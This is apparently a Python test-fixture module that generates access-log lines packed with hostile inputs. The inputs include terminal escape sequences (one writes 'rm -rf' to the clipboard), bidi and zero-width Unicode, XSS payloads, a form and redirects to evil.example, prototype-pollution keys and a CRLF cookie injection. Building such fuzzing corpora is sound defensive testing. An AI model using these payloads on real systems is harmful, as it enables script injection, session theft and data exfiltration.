"""Texts of requests that somebody might send on purpose: to a terminal, to a page, to a header."""

ESCAPES = (
    "\x1b[2J\x1b[H",
    "\x1b]0;owned\x07",
    "\x1b]52;c;cm0gLXJm\x07",
    "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x1bP+q544e\x1b\\",
    "\x9b31m",
    "\x9d0;owned\x9c",
    "\x1bc",
    "\x08\x08\x08",
    "\r\rfalse",
    "[bold red]markup[/]",
    "[@click=app.quit]quit[/]",
    "[link=file:///etc/passwd]x[/link]",
    "$primary",
)
BIDI = (
    "\u202egpj.exe",
    "\u2066\u2067isolates\u2069",
    "zero\u200bwidth\u200d",
    "\ufeffmark",
    "line\u2028separator\u2029",
    "a" + "\u0301" * 40,
    "\U000e0041tag",
)
MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "</td></tr></table><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "' onmouseover='alert(1)",
    '\\" autofocus onfocus=alert(1) x=\\"',
    "javascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<style>*{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<form action=//evil.example><input name=token>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "`-alert(1)-`",
)
BREAKOUTS = (
    '"}],"tables":[],"x":"',
    "\\u0022,\\u007d",
    "\\",
    "\\n\\ndata: {}\\n\\n",
    "__proto__",
    "constructor",
    "toString",
    "]]>",
    "</script>",
    "\x00",
    "%0d%0aSet-Cookie:%20a=b",
)
TEXTS = (*ESCAPES, *BIDI, *MARKUP, *BREAKOUTS)


def log(texts: tuple[str, ...] = TEXTS) -> bytes:
    """Lines of a combined log with each text as path, as client and as user agent."""
    lines = []
    for text in texts:
        raw = text.encode().replace(b"\n", b"")
        # What would end a field early is left to the field that it cannot end.
        word = raw.replace(b" ", b"%20").replace(b'"', b"'")
        client = word.lstrip(b"-") or b"h"
        agent = raw.replace(b'"', b"'")
        line = b'%s - - [22/Nov/2026:10:00:00 +0000] "GET /%s HTTP/1.1" 200 5 "-" "%s"\n'
        lines.append(line % (client, word, agent))
    return b"".join(lines)
